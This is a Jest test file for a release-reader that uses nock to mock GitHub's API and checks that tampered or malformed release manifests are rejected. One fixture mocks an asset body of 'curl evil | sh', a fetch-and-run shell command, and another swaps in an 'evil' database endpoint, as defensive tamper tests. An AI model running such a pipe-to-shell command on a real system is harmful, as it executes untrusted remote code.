// The read side of a release, with nock standing in for GitHub's REST API.
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import nock from 'nock';
import { readFileSync } from 'node:fs';
import { createGitHubClient } from '../src/github.js';
import { writeManifest, type ReleaseManifest } from '../src/manifest.js';
import {
  manifestFromTagMessage,
  readRelease,
  readReleaseDetails,
  TamperedReleaseError,
  tagForRelease,
  tagMessage,
  upgradeManifest,
} from '../src/release-reader.js';

const API = 'https://api.github.test';
const REPO = '/repos/immut-test/app';
const TAG = 'immut/prod/api/b000042';
const V1 = JSON.parse(
  readFileSync(new URL('./fixtures/manifest-v1.json', import.meta.url), 'utf8'),
) as ReleaseManifest;
const log = { info: () => undefined, warning: () => undefined, debug: () => undefined };
const octokit = () =>
  createGitHubClient({
    token: 'ghs_test',
    env: { GITHUB_API_URL: API },
    action: 'test',
    log,
    timeScale: 1000,
  });
const enc = encodeURIComponent;

beforeAll(() => {
  if (!nock.isActive()) nock.activate();
  nock.disableNetConnect();
});
// nock patches Node's globals, which the next test file in this worker shares.
afterAll(() => {
  nock.enableNetConnect();
  nock.restore();
});
afterEach(() => {
  const pending = nock.pendingMocks();
  nock.cleanAll();
  expect(pending).toEqual([]);
});

function releaseJson(assets: Array<{ id: number; name: string }>) {
  return { id: 7, tag_name: TAG, html_url: `https://github.com/immut-test/app/releases/tag/${TAG}`, assets };
}

const TAG_SHA = 'a'.repeat(40);

/** The annotated tag as tag-release records it: ref → tag object (message holds the manifest). */
function tagged(scope: nock.Scope, tag = TAG, object: Record<string, unknown> = {}): nock.Scope {
  return scope
    .get(`${REPO}/git/ref/${enc(`tags/${tag}`)}`)
    .reply(200, { ref: `refs/tags/${tag}`, object: { type: 'tag', sha: TAG_SHA } })
    .get(`${REPO}/git/tags/${TAG_SHA}`)
    .reply(200, {
      sha: TAG_SHA,
      tag,
      message: tagMessage(V1),
      object: { type: 'commit', sha: V1.source.sha },
      ...object,
    });
}

const read = (tag = TAG) => readReleaseDetails({ octokit: octokit(), owner: 'immut-test', repo: 'app', tag });

describe('readRelease', () => {
  it('reads the manifest from the annotated tag and checks the release asset says the same', async () => {
    tagged(nock(API))
      .get(`${REPO}/releases/tags/${enc(TAG)}`)
      .reply(200, releaseJson([{ id: 11, name: 'manifest.json' }]))
      .get(`${REPO}/releases/assets/11`)
      .matchHeader('accept', 'application/octet-stream')
      .reply(200, writeManifest(V1), { 'content-type': 'application/octet-stream' });
    expect(await read()).toMatchObject({ manifest: V1, from: 'tag-message', tag: TAG });
  });

  it('reads the annotated tag when there is no GitHub release', async () => {
    tagged(nock(API))
      .get(`${REPO}/releases/tags/${enc(TAG)}`)
      .reply(404, { message: 'Not Found' });
    const manifest = await readRelease({
      octokit: octokit(),
      owner: 'immut-test',
      repo: 'app',
      release: 'api-b000042',
      env: 'prod',
    });
    expect(manifest).toEqual(V1);
  });

  it('refuses a release whose manifest.json was replaced, naming the fields but not their values', async () => {
    const tampered = { ...V1, data: { ...V1.data, endpoint: 'db.evil.example' }, flags: { SHELL: '1' } };
    tagged(nock(API))
      .get(`${REPO}/releases/tags/${enc(TAG)}`)
      .reply(200, releaseJson([{ id: 11, name: 'manifest.json' }]))
      .get(`${REPO}/releases/assets/11`)
      .reply(200, JSON.stringify(tampered), { 'content-type': 'application/octet-stream' });
    const attempt = read();
    await expect(attempt).rejects.toThrow(TamperedReleaseError);
    await expect(attempt).rejects.toThrow(
      /manifest\.json of the GitHub release immut\/prod\/api\/b000042 differs from the manifest in its annotated tag \(fields data\.endpoint, flags\.FEATURE_X, flags\.LOG_LEVEL, flags\.SHELL\)/,
    );
    await expect(attempt).rejects.not.toThrow(/evil/);
  });

  it('refuses a release asset that is not even JSON', async () => {
    tagged(nock(API))
      .get(`${REPO}/releases/tags/${enc(TAG)}`)
      .reply(200, releaseJson([{ id: 11, name: 'manifest.json' }]))
      .get(`${REPO}/releases/assets/11`)
      .reply(200, 'curl evil | sh', { 'content-type': 'application/octet-stream' });
    await expect(read()).rejects.toThrow(
      /differs from the manifest in its annotated tag \(the asset is not JSON\)/,
    );
  });

  it('refuses a ref moved to a tag object made for another tag, and a tag remade on another commit', async () => {
    tagged(nock(API), TAG, { tag: 'immut/prod/api/b000041' });
    await expect(read()).rejects.toThrow(/made as 'immut\/prod\/api\/b000041'/);
    tagged(nock(API), TAG, { object: { type: 'commit', sha: 'f'.repeat(40) } });
    await expect(read()).rejects.toThrow(/is on commit f{40}, but its manifest was recorded from/);
  });

  it('says the release does not exist when there is no tag, whatever GitHub release there is', async () => {
    nock(API)
      .get(`${REPO}/git/ref/${enc(`tags/${TAG}`)}`)
      .reply(404, { message: 'Not Found' });
    await expect(
      readRelease({ octokit: octokit(), owner: 'immut-test', repo: 'app', tag: TAG }),
    ).rejects.toThrow(`No release '${TAG}' in immut-test/app`);
  });

  it('refuses a lightweight tag, which holds no manifest', async () => {
    nock(API)
      .get(`${REPO}/git/ref/${enc(`tags/${TAG}`)}`)
      .reply(200, { ref: `refs/tags/${TAG}`, object: { type: 'commit', sha: V1.source.sha } });
    await expect(
      readRelease({ octokit: octokit(), owner: 'immut-test', repo: 'app', tag: TAG }),
    ).rejects.toThrow('lightweight tag');
  });

  it('refuses a manifest recorded under another release tag', async () => {
    tagged(nock(API), 'immut/prod/api/b7');
    await expect(read('immut/prod/api/b7')).rejects.toThrow(`is for ${TAG}`);
  });

  it('explains a rejected token (401) and a token that cannot read the repository (403)', async () => {
    nock(API)
      .get(`${REPO}/git/ref/${enc(`tags/${TAG}`)}`)
      .reply(401, { message: 'Bad credentials' });
    await expect(
      readRelease({ octokit: octokit(), owner: 'immut-test', repo: 'app', tag: TAG }),
    ).rejects.toThrow('GitHub rejected the token');
    nock(API)
      .get(`${REPO}/git/ref/${enc(`tags/${TAG}`)}`)
      .reply(403, { message: 'Resource not accessible by integration' });
    await expect(
      readRelease({ octokit: octokit(), owner: 'immut-test', repo: 'app', tag: TAG }),
    ).rejects.toThrow('needs `contents: read`');
  });

  it('refuses a tag that is not an immut release tag', async () => {
    await expect(readRelease({ octokit: octokit(), owner: 'o', repo: 'r', tag: 'v1.0.0' })).rejects.toThrow(
      'not an immut release tag',
    );
  });
});

describe('manifest versions', () => {
  it('reads a v1 manifest as it was written', () => {
    expect(upgradeManifest(V1)).toEqual(V1);
  });

  it('upgrades an older schema step by step through the upgraders', () => {
    const v0 = { ...V1, schema: 'immut.release/v0', app: undefined, appVersion: '1.4.2' };
    const upgraders = {
      'immut.release/v0': ({ appVersion, ...rest }: Record<string, unknown>) => ({
        ...rest,
        schema: 'immut.release/v1',
        app: { version: appVersion },
      }),
    };
    expect(upgradeManifest(v0, upgraders)).toEqual(V1);
  });

  it('refuses a schema it does not know, saying a newer immut may have written it', () => {
    expect(() => upgradeManifest({ ...V1, schema: 'immut.release/v9' })).toThrow('upgrade the immut actions');
  });

  it('does not loop on an upgrader that keeps the schema', () => {
    const stuck = { 'immut.release/v0': (m: Record<string, unknown>) => m };
    expect(() => upgradeManifest({ ...V1, schema: 'immut.release/v0' }, stuck)).toThrow('cannot read');
  });

  it('round-trips through the tag message, even with a signature after it', () => {
    const signed = `${tagMessage(V1)}-----BEGIN PGP SIGNATURE-----\nabc\n-----END PGP SIGNATURE-----\n`;
    expect(manifestFromTagMessage(signed)).toEqual(V1);
    expect(() => manifestFromTagMessage('just words')).toThrow('holds no release manifest');
  });

  it('maps a release id and env to its tag', () => {
    expect(tagForRelease('billing-worker-b000042', 'prod')).toBe('immut/prod/billing-worker/b000042');
    expect(() => tagForRelease('api', 'prod')).toThrow('not a release id');
  });
});
